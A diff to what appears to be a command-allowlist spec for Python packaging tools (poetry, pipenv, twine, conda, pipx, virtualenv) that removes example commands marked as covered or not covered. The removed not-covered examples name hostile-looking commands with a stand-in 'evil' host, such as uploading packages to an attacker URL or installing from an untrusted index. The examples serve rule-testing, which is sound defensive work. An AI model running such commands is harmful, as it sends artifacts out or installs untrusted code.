@@ -39,8 +39,6 @@ _POETRY = Program(
             Program(act=Act.RUNS, network=True, options=_WITH_PLUGINS, operands="TEXT..."),
         ),
     },
-    covered=("poetry install --no-root", "poetry run pytest -q", "poetry add -G dev ruff", "poetry show --tree"),
-    not_covered=("poetry add --source evil x", "poetry self add evil", "poetry --dir /tmp run x"),
 )
 _PIPENV = Program(
     act=Act.RUNS,
@@ -54,8 +52,6 @@ _PIPENV = Program(
             Program(act=Act.RUNS, network=True, options="-d|--dev --deploy -v|--verbose", operands="TEXT..."),
         ),
     },
-    covered=("pipenv install --dev", "pipenv run pytest"),
-    not_covered=("pipenv install --index evil x", "pipenv --python ./x install", "pipenv shell"),
 )
 _BUILDS = Program(
     act=Act.RUNS,
@@ -65,12 +61,6 @@ _BUILDS = Program(
         --strict
     """,
     operands="TEXT EITHER...",
-    covered=("twine check dist/a.whl", "hatch build", "flit build", "pdm install", "twine upload dist/a.whl"),
-    not_covered=(
-        "twine upload --repository-url http://evil dist/a.whl",
-        "hatch -e evil run x",
-        "pdm --config x install",
-    ),
 )
 _CONDA = Program(
     act=Act.CHANGES,
@@ -100,9 +90,6 @@ _CONDA = Program(
             ),
         ),
     },
-    looks=("conda --version",),
-    covered=("conda list", "conda install -y numpy", "conda env create -f environment.yml", "conda run -n x pytest"),
-    not_covered=("conda install -c http://evil x", "conda run -p ./env x", "conda"),
 )
 _PIPX = Program(
     act=Act.RUNS,
@@ -127,9 +114,6 @@ _PIPX = Program(
             ),
         ),
     },
-    looks=("pipx --version",),
-    covered=("pipx install ruff", "pipx run cowsay x", "pipx list"),
-    not_covered=("pipx install --index-url http://evil x", "pipx run --python ./x y", "pipx install --pip-args=x y"),
 )
 _VIRTUALENV = Program(
     act=Act.RUNS,
@@ -139,8 +123,6 @@ _VIRTUALENV = Program(
         --copies --no-pip --no-setuptools -p|--python=CODE --extra-search-dir=CODE --app-data=CODE
     """,
     operands="WRITE_TREE",
-    covered=("virtualenv .venv",),
-    not_covered=("virtualenv -p ./evil .venv", "virtualenv --pyth=./evil x", "virtualenv --creator x y"),
 )
 
 PROGRAMS: Mapping[str, Program] = {
